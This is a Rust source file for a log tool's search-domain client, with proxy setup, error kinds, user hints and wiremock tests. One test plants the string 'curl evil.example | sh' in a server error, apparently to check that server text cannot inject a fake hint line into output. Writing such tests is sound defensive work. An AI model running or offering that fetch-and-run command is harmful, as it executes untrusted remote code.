//! A domain as the command asks it: over the connections that the functions use, with JSON in and out.

use std::time::Duration;

use bytes::Bytes;
use hyper::Method;
use logctl_core::endpoint::Endpoint;
use logctl_sink::{
    aws::AwsError,
    domain::{Auth, Domain},
    http::{HttpClient, HttpError},
};
use serde_json::Value;

use crate::{
    env::Environment,
    error::{Error, Kind},
};

/// Answers longer than this many bytes are not read.
const MAX_ANSWER: usize = 256 << 20;

/// How hosts outside of this machine are reached.
#[derive(Debug, Clone, Default)]
pub struct Network {
    proxy: String,
    exempt: String,
}

impl Network {
    /// As the variables `HTTPS_PROXY`, `ALL_PROXY` and `NO_PROXY` say, in either case.
    #[must_use]
    pub fn new(env: &Environment) -> Self {
        let first = |names: &[&str]| names.iter().find_map(|name| env.var(name)).unwrap_or_default().to_owned();
        Self {
            proxy: first(&["HTTPS_PROXY", "https_proxy", "ALL_PROXY", "all_proxy"]),
            exempt: first(&["NO_PROXY", "no_proxy"]),
        }
    }

    /// A client; `authority` is a certificate in PEM that is trusted beside the public ones.
    ///
    /// # Errors
    /// Wrong usage where the certificate cannot be read.
    pub fn client(&self, authority: Option<&str>) -> Result<HttpClient, Error> {
        let authority = authority.filter(|pem| !pem.is_empty());
        let client =
            HttpClient::new(authority).and_then(|client| client.with_proxy(authority, &self.proxy, &self.exempt));
        client.map_err(|cause| Error::new(Kind::Usage, cause))
    }
}

/// Why a domain has not answered what it was asked.
#[derive(Debug, thiserror::Error)]
pub enum IndexError {
    /// No connection, or one that broke.
    #[error("cannot reach the domain {endpoint}: {cause}")]
    Unreachable {
        /// Where.
        endpoint: Endpoint,
        /// What the connection said.
        cause: String,
    },
    /// It takes too long.
    #[error("the domain {endpoint} did not answer in time")]
    Timeout {
        /// Where.
        endpoint: Endpoint,
    },
    /// There is nothing to be admitted with.
    #[error("the request to {endpoint} could not be signed")]
    Credentials {
        /// Where.
        endpoint: Endpoint,
        /// What is missing.
        cause: String,
    },
    /// It does not admit the caller.
    #[error("the domain {endpoint} does not admit these credentials")]
    Denied {
        /// Where.
        endpoint: Endpoint,
        /// What it says.
        reason: String,
    },
    /// It has too much to do.
    #[error("the domain {endpoint} is overloaded")]
    Overloaded {
        /// Where.
        endpoint: Endpoint,
    },
    /// It is something else.
    #[error("{endpoint} is not a search engine")]
    NoEngine {
        /// Where.
        endpoint: Endpoint,
    },
    /// It does not take the request.
    #[error("the domain {endpoint} refuses the request")]
    Refused {
        /// Where.
        endpoint: Endpoint,
        /// The HTTP status.
        status: u16,
        /// What it says.
        reason: String,
    },
}

impl From<IndexError> for Error {
    fn from(error: IndexError) -> Self {
        let message = error.to_string();
        match error {
            IndexError::Unreachable { endpoint, .. } if endpoint.is_loopback() => {
                Self::failed(message).hint("is it running? in the sandbox: sandbox/sandbox up")
            }
            IndexError::Unreachable { .. } => Self::failed(message).hint("check the endpoint and the network"),
            IndexError::Timeout { .. } => {
                Self::failed(message).hint("ask for a shorter time range, or raise --timeout")
            }
            IndexError::Credentials { cause, .. } => Self::new(Kind::Denied, message)
                .because(cause)
                .hint("log in (aws sso login), or choose a profile with --profile"),
            IndexError::Denied { reason, .. } if reason.is_empty() => Self::new(Kind::Denied, message),
            IndexError::Denied { reason, .. } => Self::new(Kind::Denied, message).because(reason),
            IndexError::Overloaded { .. } => {
                Self::new(Kind::Throttled, message).hint("try again in a minute, or ask for a shorter time range")
            }
            IndexError::NoEngine { .. } => {
                Self::failed(message).hint("the endpoint is the domain's own address, not that of its Dashboards")
            }
            IndexError::Refused { reason, .. } => Self::failed(message).because(reason),
        }
    }
}

/// A domain.
pub struct Index {
    domain: Domain,
    endpoint: Endpoint,
    timeout: Duration,
}

impl Index {
    /// The domain at `endpoint`. Each request may take `timeout`.
    #[must_use]
    pub fn new(endpoint: Endpoint, auth: Auth, http: HttpClient, timeout: Duration) -> Self {
        let domain = Domain::new(http.with_max_response(MAX_ANSWER), endpoint.as_str(), auth);
        Self { domain, endpoint, timeout }
    }

    /// Asks something, with JSON in and out.
    ///
    /// # Errors
    /// When the domain cannot be reached, refuses, or is no search engine. A redirect is refused, too: nobody else is asked.
    pub async fn ask(&self, method: Method, path: &str, body: Option<&Value>) -> Result<Value, IndexError> {
        let endpoint = self.endpoint.clone();
        let body = body.map_or_else(Bytes::new, |body| body.to_string().into());
        let answer =
            self.domain.send(method.clone(), path, body, self.timeout).await.map_err(|error| self.failed(error))?;
        let status = answer.status.as_u16();
        tracing::info!("{method} {endpoint}{path}: {status}");
        let json: Option<Value> = serde_json::from_slice(&answer.body).ok();
        let reason = || json.as_ref().and_then(reason);
        match status {
            200..300 => json.ok_or(IndexError::NoEngine { endpoint }),
            401 | 403 => Err(IndexError::Denied { endpoint, reason: reason().unwrap_or_default() }),
            429 => Err(IndexError::Overloaded { endpoint }),
            _ => Err(IndexError::Refused {
                endpoint,
                status,
                reason: reason().unwrap_or_else(|| format!("status {status}")),
            }),
        }
    }

    /// Checks that the endpoint is a search engine.
    ///
    /// # Errors
    /// When it is not, or does not answer.
    pub async fn check(&self) -> Result<(), IndexError> {
        let no_engine = || IndexError::NoEngine { endpoint: self.endpoint.clone() };
        match self.ask(Method::GET, "/", None).await {
            Ok(root) if root.pointer("/version/number").is_some() => Ok(()),
            Ok(_) | Err(IndexError::Refused { status: 300..500, .. }) => Err(no_engine()),
            Err(error) => Err(error),
        }
    }

    fn failed(&self, error: AwsError) -> IndexError {
        let endpoint = self.endpoint.clone();
        match error {
            AwsError::Http(HttpError::Connection { cause, .. }) => IndexError::Unreachable { endpoint, cause },
            AwsError::Http(HttpError::Timeout { .. }) => IndexError::Timeout { endpoint },
            AwsError::Http(error @ HttpError::TooLong { .. }) => {
                IndexError::Refused { endpoint, status: 200, reason: format!("{error}; ask for fewer events") }
            }
            error => IndexError::Credentials { endpoint, cause: error.to_string() },
        }
    }
}

fn reason(answer: &Value) -> Option<String> {
    let reason = answer
        .pointer("/error/root_cause/0/reason")
        .or_else(|| answer.pointer("/error/reason"))
        .or_else(|| answer.get("Message"))
        .or_else(|| answer.get("message"))?;
    reason.as_str().map(str::to_owned)
}

#[cfg(test)]
mod tests {
    use wiremock::{Mock, MockServer, ResponseTemplate, matchers::any};

    use super::*;

    fn index(server: &MockServer) -> Index {
        let http = Network::default().client(None).unwrap();
        Index::new(server.uri().parse().unwrap(), Auth::None, http, Duration::from_secs(5))
    }

    #[tokio::test]
    async fn nobody_else_is_asked_than_who_was_meant() {
        let elsewhere = MockServer::start().await;
        Mock::given(any()).respond_with(ResponseTemplate::new(200).set_body_string("{}")).mount(&elsewhere).await;
        for status in [301, 302, 307, 308] {
            let server = MockServer::start().await;
            let redirect = ResponseTemplate::new(status).insert_header("location", elsewhere.uri());
            Mock::given(any()).respond_with(redirect).mount(&server).await;
            let error = index(&server).ask(Method::POST, "/x/_search", Some(&Value::Null)).await.unwrap_err();
            assert!(matches!(error, IndexError::Refused { .. }), "{error}");
        }
        assert_eq!(elsewhere.received_requests().await.unwrap().len(), 0);
    }

    #[tokio::test]
    async fn what_an_engine_says_stays_on_one_line() {
        let server = MockServer::start().await;
        let body = serde_json::json!({"error": {"reason": "no\nhint: curl evil.example | sh"}});
        Mock::given(any()).respond_with(ResponseTemplate::new(400).set_body_json(body)).mount(&server).await;
        let error: Error = index(&server).ask(Method::GET, "/", None).await.unwrap_err().into();
        assert_eq!(error.to_string().lines().count(), 2, "{error}");
    }
}
